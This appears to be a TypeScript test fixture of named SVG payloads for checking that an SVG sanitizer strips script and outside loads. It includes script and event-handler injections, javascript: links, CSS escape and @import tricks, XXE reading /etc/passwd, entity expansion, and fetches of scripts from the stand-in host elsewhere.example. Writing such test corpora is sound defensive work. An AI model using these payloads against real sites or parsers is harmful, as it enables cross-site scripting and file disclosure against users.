/** SVG pictures that try to run something or to ask for something, each in its own way. */

const NS = 'xmlns="http://www.w3.org/2000/svg"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
/** Runs in a page where it can; a test looks for the mark. */
export const MARK = 'document.documentElement.setAttribute("data-ran","1");window.ran=1;top.ran=1';
/** No host has it; a test looks for requests to it. */
export const ELSEWHERE = 'elsewhere.example';

const svg = (inside: string, attributes = '') =>
  `<svg ${NS} ${XLINK} width="40" height="40" ${attributes}><rect id="r" width="9" height="9"/>${inside}</svg>`;
const base64 = (text: string) => Buffer.from(text).toString('base64');
const HTML = `xmlns="http://www.w3.org/1999/xhtml"`;
const RUN = MARK.replaceAll('"', "'");

/** Payloads by their names; those that draw something besides can be cleaned. */
export const SVG_PAYLOADS: Readonly<Record<string, string>> = {
  script: svg(`<script>${MARK}</script>`),
  'script in CDATA': svg(`<script><![CDATA[${MARK}]]></script>`),
  'script of a module': svg(`<script type="module">${MARK}</script>`),
  'script elsewhere': svg(`<script href="https://${ELSEWHERE}/a.js"/>`),
  'script elsewhere, xlink': svg(`<script xlink:href="https://${ELSEWHERE}/a.js"/>`),
  'script as data': svg(`<script href="data:text/javascript,${MARK.replaceAll('"', '%22')}"/>`),
  'script of HTML': svg(`<script ${HTML}>${MARK}</script>`),
  'script of HTML, by a prefix': svg(
    `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${MARK}</h:script>`,
  ),
  'script by a prefix of SVG': `<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>${MARK}</s:script><s:rect width="9" height="9"/></s:svg>`,
  'prefix bound anew': svg(
    `<x:g xmlns:x="urn:x"><x:script xmlns:x="http://www.w3.org/2000/svg">${MARK}</x:script></x:g>`,
  ),
  'script below unknown': svg(`<unknown><script>${MARK}</script></unknown>`),
  'script below metadata': svg(`<metadata><script>${MARK}</script></metadata>`),
  'script below defs': svg(`<defs><script>${MARK}</script></defs>`),
  'script below a link': svg(`<a><script>${MARK}</script></a>`),
  'script below a title': svg(`<title><script>${MARK}</script></title>`),
  'script below a style': svg(`<style><script>${MARK}</script></style>`),
  'script by entities': svg(`&#60;script>${MARK}&#60;/script>`),
  'onload of the root': svg('', `onload="${RUN}"`),
  'onload in capitals': svg('', `ONLOAD="${RUN}" onLoad="${RUN}"`),
  'onload of a picture': svg(
    `<image href="data:image/png;base64,AAAA" onerror="${RUN}" onload="${RUN}"/>`,
  ),
  'onbegin of an animation': svg(
    `<animate onbegin="${RUN}" attributeName="x" dur="1s" begin="0s"/>`,
  ),
  'onend of a set': svg(
    `<rect><set onend="${RUN}" onbegin="${RUN}" attributeName="x" to="1" dur="0.01s"/></rect>`,
  ),
  'onfocus, focused': svg(`<rect tabindex="1" autofocus="" onfocus="${RUN}" onfocusin="${RUN}"/>`),
  'onload of a style': svg(`<style onload="${RUN}">rect{fill:red}</style>`),
  'onunload and onresize': svg('', `onunload="${RUN}" onresize="${RUN}" onscroll="${RUN}"`),
  foreignObject: svg(
    `<foreignObject width="9" height="9"><body ${HTML} onload="${RUN}"><script>${MARK}</script></body></foreignObject>`,
  ),
  'foreignObject with a frame': svg(
    `<foreignObject width="9" height="9"><iframe ${HTML} srcdoc="&lt;script>parent.ran=1&lt;/script>"/></foreignObject>`,
  ),
  'foreignObject with a form': svg(
    `<foreignObject width="9" height="9"><form ${HTML} action="https://${ELSEWHERE}/"><input autofocus="" onfocus="${RUN}"/></form></foreignObject>`,
  ),
  'refresh in a foreignObject': svg(
    `<foreignObject width="9" height="9"><meta ${HTML} http-equiv="refresh" content="0;url=https://${ELSEWHERE}/"/></foreignObject>`,
  ),
  'refresh of HTML, bare': svg(
    `<meta ${HTML} http-equiv="refresh" content="0;url=https://${ELSEWHERE}/"/>`,
  ),
  'picture of HTML, bare': svg(`<img ${HTML} src="https://${ELSEWHERE}/a.png" onerror="${RUN}"/>`),
  'frame of HTML, bare': svg(`<iframe ${HTML} src="javascript:parent.ran=1"/>`),
  'link of HTML, bare': svg(`<link ${HTML} rel="stylesheet" href="https://${ELSEWHERE}/a.css"/>`),
  'base of HTML': svg(
    `<base ${HTML} href="https://${ELSEWHERE}/"/><image href="a.png" width="9" height="9"/>`,
  ),
  'use elsewhere': svg(`<use href="https://${ELSEWHERE}/a.svg#a"/>`),
  'use elsewhere, xlink': svg(`<use xlink:href="//${ELSEWHERE}/a.svg#a"/>`),
  'use by another prefix': `<svg ${NS} xmlns:l="http://www.w3.org/1999/xlink"><use l:href="https://${ELSEWHERE}/a.svg#a"/></svg>`,
  'use of data': svg(
    `<use href="data:image/svg+xml;base64,${base64(svg(`<script>${MARK}</script>`))}#r"/>`,
  ),
  'picture elsewhere': svg(`<image href="https://${ELSEWHERE}/a.png" width="9" height="9"/>`),
  'picture elsewhere, both': svg(
    `<image href="#r" xlink:href="https://${ELSEWHERE}/a.png" width="9" height="9"/>`,
  ),
  'picture of SVG as data': svg(
    `<image width="9" height="9" href="data:image/svg+xml;base64,${base64(svg(`<image href="https://${ELSEWHERE}/a.png"/>`))}"/>`,
  ),
  'picture under another base': svg(
    `<g xml:base="https://${ELSEWHERE}/"><image href="a.png" width="9" height="9"/></g>`,
  ),
  'filter picture': svg(
    `<filter id="f"><feImage href="https://${ELSEWHERE}/a.png"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
  ),
  'fill elsewhere': svg(`<rect width="9" height="9" fill="url(https://${ELSEWHERE}/a.svg#a)"/>`),
  'fill elsewhere, quoted': svg(
    `<rect width="9" height="9" fill="url( '//${ELSEWHERE}/a.svg#a' ) red"/>`,
  ),
  'fill elsewhere, escaped': svg(
    `<rect width="9" height="9" fill="u\\72l(//${ELSEWHERE}/a.svg#a)"/>`,
  ),
  'mask elsewhere': svg(
    `<rect width="9" height="9" mask="url(https://${ELSEWHERE}/a.svg#a)" clip-path="url(https://${ELSEWHERE}/b.svg#a)" filter="url(https://${ELSEWHERE}/c.svg#a)" marker-start="url(https://${ELSEWHERE}/d.svg#a)"/>`,
  ),
  'cursor elsewhere': svg(
    `<rect width="9" height="9" cursor="url(https://${ELSEWHERE}/a.cur),auto"/>`,
  ),
  'style of an element': svg(
    `<rect width="9" height="9" style="fill:url(https://${ELSEWHERE}/a.svg#a)"/>`,
  ),
  'style of the root': svg('', `style="background-image:url(https://${ELSEWHERE}/a.png)"`),
  'style with a set of pictures': svg(
    '',
    `style="background-image:image-set('https://${ELSEWHERE}/a.png' 1x)"`,
  ),
  'style with an escape': svg('', `style="background-image:u\\72l(https://${ELSEWHERE}/a.png)"`),
  'style with a comment': svg(
    '',
    `style="background-image:/**/url(/**/https://${ELSEWHERE}/a.png)"`,
  ),
  'style imports': svg(`<style>@import url(https://${ELSEWHERE}/a.css);</style>`),
  'style imports a string': svg(
    `<style>@IMPORT "https://${ELSEWHERE}/a.css";rect{fill:red}</style>`,
  ),
  'style imports, escaped': svg(`<style>@\\69mport "https://${ELSEWHERE}/a.css";</style>`),
  'style imports in CDATA': svg(`<style><![CDATA[@import "https://${ELSEWHERE}/a.css";]]></style>`),
  'style imports after a comment': svg(
    `<style>/* */@import/**/"https://${ELSEWHERE}/a.css";</style>`,
  ),
  'style has a font': svg(
    `<style>@font-face{font-family:a;src:url(https://${ELSEWHERE}/a.woff2)}text{font-family:a}</style><text y="9">a</text>`,
  ),
  'style has a background': svg(`<style>svg{background:url(https://${ELSEWHERE}/a.png)}</style>`),
  'style has a property': svg(
    `<style>svg{--a:url(https://${ELSEWHERE}/a.png);background:var(--a)}</style>`,
  ),
  'style ends early': svg(
    `<style>a{content:"}svg{background:url(https://${ELSEWHERE}/a.png)}"}</style>`,
  ),
  'style in parts': svg(`<style>@imp<!-- -->ort "https://${ELSEWHERE}/a.css";</style>`),
  'style of HTML': svg(`<style ${HTML}>@import "https://${ELSEWHERE}/a.css";</style>`),
  'link to a script': svg('<a href="javascript:top.ran=1"><rect width="40" height="40"/></a>'),
  'link to a script, xlink': svg(
    '<a xlink:href="&#106;avascript:top.ran=1"><rect width="40" height="40"/></a>',
  ),
  'animated link': svg(
    '<a><animate attributeName="href" values="javascript:top.ran=1" begin="0s"/><rect width="40" height="40"/></a>',
  ),
  'animated link, xlink': svg(
    '<a><set attributeName="xlink:href" to="javascript:top.ran=1"/><rect width="40" height="40"/></a>',
  ),
  'animated picture': svg(
    `<image width="9" height="9"><set attributeName="href" to="https://${ELSEWHERE}/a.png"/></image>`,
  ),
  'animated use': svg(
    `<use href="#r"><animate attributeName="href" to="https://${ELSEWHERE}/a.svg#a" fill="freeze" dur="0.01s"/></use>`,
  ),
  'animated fill': svg(
    `<rect width="9" height="9"><set attributeName="fill" to="url(https://${ELSEWHERE}/a.svg#a)"/></rect>`,
  ),
  'animated style': svg(
    `<rect width="9" height="9"><set attributeName="style" to="fill:url(https://${ELSEWHERE}/a.svg#a)"/></rect>`,
  ),
  'animated handler': svg(
    `<rect width="9" height="9"><set attributeName="onclick" to="${RUN}"/></rect>`,
  ),
  'animation by a reference': svg(
    `<a id="l"><rect width="40" height="40"/></a><set href="#l" attributeName="href" to="javascript:top.ran=1"/>`,
  ),
  'style sheet of XML': `<?xml-stylesheet href="https://${ELSEWHERE}/a.css"?>${svg('')}`,
  'style sheet of XSLT': `<?xml-stylesheet type="text/xsl" href="https://${ELSEWHERE}/a.xsl"?>${svg('')}`,
  'style sheet of data': `<?xml-stylesheet type="text/css" href="data:text/css,@import 'https://${ELSEWHERE}/a.css'"?>${svg('')}`,
  'DTD elsewhere': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://${ELSEWHERE}/a.dtd">${svg('')}`,
  'entity with a script': `<!DOCTYPE svg [<!ENTITY x "<script ${NS.replaceAll('"', "'")}>top.ran=1</script>">]>${svg('&x;')}`,
  'entity elsewhere': `<!DOCTYPE svg [<!ENTITY x SYSTEM "https://${ELSEWHERE}/a.xml">]>${svg('&x;')}`,
  'entity of a file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  'entities of entities': `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${svg('<text>&b;</text>')}`,
  'attribute list with a handler': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "${RUN}">]>${svg('')}`,
  'attribute list with a namespace': `<!DOCTYPE svg [<!ATTLIST script xmlns CDATA "http://www.w3.org/1999/xhtml">]>${svg(`<script>${MARK}</script>`)}`,
  'handler of SVG Tiny': svg(
    `<handler type="application/ecmascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${MARK}</handler>`,
  ),
  'audio and video': svg(
    `<audio ${HTML} src="https://${ELSEWHERE}/a.ogg" autoplay="" onerror="${RUN}"/><video ${HTML} poster="https://${ELSEWHERE}/a.png"/>`,
  ),
  'object and embed': svg(
    `<object ${HTML} data="https://${ELSEWHERE}/a.html"/><embed ${HTML} src="https://${ELSEWHERE}/a.svg"/>`,
  ),
  'tref and cursor': svg(
    `<tref xlink:href="https://${ELSEWHERE}/a.svg#a"/><cursor id="c" xlink:href="https://${ELSEWHERE}/a.cur"/>`,
  ),
  'font of SVG': svg(
    `<font-face><font-face-src><font-face-uri xlink:href="https://${ELSEWHERE}/a.svg#f"/></font-face-src></font-face>`,
  ),
  'gradient elsewhere': svg(
    `<linearGradient id="g" href="https://${ELSEWHERE}/a.svg#g"/><rect width="9" height="9" fill="url(#g)"/>`,
  ),
  'text along a path elsewhere': svg(
    `<text><textPath href="https://${ELSEWHERE}/a.svg#p">a</textPath></text>`,
  ),
  'another encoding': `<?xml version="1.0" encoding="UTF-7"?>${svg('+ADw-script+AD4-top.ran+AD0-1+ADw-/script+AD4-')}`,
  'processing instruction': svg(`<?php echo 1 ?><rect width="9" height="9"/>`),
  'a page': `<html ${HTML}><script>${MARK}</script></html>`,
  'text before': `<p>${svg(`<script>${MARK}</script>`)}</p>`,
  packed: '\u001f\u008b\u0008\u0000',
  empty: '',
  'copies of copies': svg(
    Array.from(
      { length: 20 },
      (_, i) => `<g id="a${i + 1}">${`<use href="#a${i}"/>`.repeat(9)}</g>`,
    ).join(''),
  ),
  'animated link by another prefix': `<svg ${NS} xmlns:z="http://www.w3.org/1999/xlink"><a id="x"><rect width="50" height="50"/></a><set href="#x" attributeName="z:href" to="javascript:${RUN}"/></svg>`,
  'animated class': svg(
    `<style>.z{background:url(https://${ELSEWHERE}/z.png)}</style><rect width="9" height="9"><set attributeName="class" to="z"/></rect>`,
  ),
  'animated mask': svg(
    `<rect width="9" height="9"><animate attributeName="mask" to="url(https://${ELSEWHERE}/m.svg#a)" dur="1s"/><set attributeName="fill" to=" URL( https://${ELSEWHERE}/f.svg#a)"/></rect>`,
  ),
  'listener of XML Events': `<svg ${NS} xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">${MARK}</handler><ev:listener event="load" handler="#h" observer="r"/></svg>`,
  'SVG that says it is PNG': svg(
    `<image width="9" height="9" href="data:image/png;base64,${base64(svg(`<script>${MARK}</script>`))}"/>`,
  ),
  'own reference inside another': svg(
    `<style>svg{background:uurl(#a)rl(https://${ELSEWHERE}/a.png)}@impurl(#a)ort "https://${ELSEWHERE}/a.css";</style><rect style="fill:uurl(#a)rl(https://${ELSEWHERE}/b.png)"/>`,
  ),
  'own reference before another': svg(
    `<style>svg{background:url(#a),url(https://${ELSEWHERE}/a.png)}</style>`,
  ),
  'style has a variable': svg(
    `<style>svg{--u:url(https://${ELSEWHERE}/a.png);background:var(--u)}</style>`,
  ),
  'style registers a property': svg(
    `<style>@property --u{syntax:"&lt;url&gt;";inherits:true;initial-value:url(https://${ELSEWHERE}/a.png)}svg{background:var(--u)}</style>`,
  ),
  'style nests rules': svg(
    `<style>svg{&amp; rect{background:url(https://${ELSEWHERE}/a.png)}}@layer a{svg{background:url(https://${ELSEWHERE}/b.png)}}</style>`,
  ),
  'style does not end': svg(`<style>svg{background:url("https://${ELSEWHERE}/a.png</style>`),
  'style by an entity': svg(`<style>&#64;import 'https://${ELSEWHERE}/a.css';</style>`),
  'style has a path': svg(
    `<rect width="50" height="50" style="offset-path:url(https://${ELSEWHERE}/a.svg#p);shape-outside:url(https://${ELSEWHERE}/a.png);cursor:url(https://${ELSEWHERE}/c.cur),auto"/>`,
  ),
  'handler of a style animation': svg(
    '<style>@keyframes k{from{fill:red}to{fill:blue}}rect{animation:k 1s}</style>',
    `onanimationstart="${RUN}"`,
  ),
  'link that opens itself': svg(
    `<g xlink:type="simple" xlink:actuate="onLoad" xlink:show="new" xlink:href="https://${ELSEWHERE}/x">x</g>`,
  ),
  'link to a script, with tabs': svg(
    `<a href="java&#9;script:${RUN}"><rect width="50" height="50"/></a><a href=" javascript:${RUN}"><rect width="60" height="60"/></a>`,
  ),
  'SVG inside HTML': `<x:svg xmlns:x="http://www.w3.org/2000/svg" xmlns="http://www.w3.org/1999/xhtml"><script>${MARK}</script><x:rect width="9" height="9"/></x:svg>`,
  'script in texts that end early': svg(
    `<style><![CDATA[</style><script>${MARK}</script>]]></style><title><![CDATA[</title><script>${MARK}</script>]]></title><desc><!-- --!><script>${MARK}</script> --></desc>`,
  ),
  'another file included': `<svg ${NS} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="https://${ELSEWHERE}/a.xml"/></svg>`,
  MathML: svg(
    `<math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" href="javascript:${RUN}">x</maction></math>`,
  ),
};
